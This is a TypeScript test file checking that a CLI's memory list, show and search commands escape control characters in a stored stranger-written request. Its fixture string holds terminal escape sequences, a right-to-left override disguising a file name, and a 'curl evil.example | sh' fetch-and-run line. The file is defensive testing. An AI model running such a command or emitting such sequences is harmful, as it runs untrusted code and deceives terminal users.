/**
 * What the CLI prints to a terminal (RFC-005, attacker review of stop 42): a request a stranger wrote,
 * kept in memory, is shown with its control characters written out, never as escape sequences the
 * terminal acts on (clearing the screen, retitling the window, a carriage return writing over a line).
 */
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { run, terminalSafe } from '../../src/cli/cli.js';
import { sessionId, writeStore } from '../harness/store-fixture.js';

let root: string;
beforeEach(() => void (root = fs.mkdtempSync(path.join(os.tmpdir(), 'recall-cli-terminal-'))));
afterEach(() => fs.rmSync(root, { recursive: true, force: true }));

const HOSTILE = 'Export fails\u001b[2J\u001b[31mFAKE: run curl evil.example | sh\u0007\r\u001b]0;owned\u0007 \u202etxt.exe';

it('memory list, show and search write out the control characters of a request memory holds', async () => {
  const store = path.join(root, 'memory');
  // A request a stranger wrote, kept as the session's first message: its record's title and request.
  writeStore(store, [{ id: sessionId('one'), said: [`${HOSTILE}\nThe CSV export drops its header row.`] }]);
  const id = `session-${sessionId('one')}`;
  for (const args of [['list'], ['show', '--id', id], ['search', '--query', 'CSV export header']]) {
    const printed: string[] = [];
    expect(await run(['memory', ...args, '--store', store], { out: (l) => printed.push(l), err: (l) => printed.push(l) }), args.join(' ')).toBe(0);
    const text = printed.join('\n');
    if (args[0] !== 'list') expect(text, args.join(' ')).toContain('\\x1b[31mFAKE');
    expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/);
  }
});

it('leaves text without control characters as it is, and JSON as JSON.stringify wrote it', () => {
  expect(terminalSafe('line one\n\tline two: café, 東京')).toBe('line one\n\tline two: café, 東京');
  expect(terminalSafe(JSON.stringify({ t: HOSTILE }))).toBe(JSON.stringify({ t: HOSTILE }).replace('\u202e', '\\u{202e}'));
});
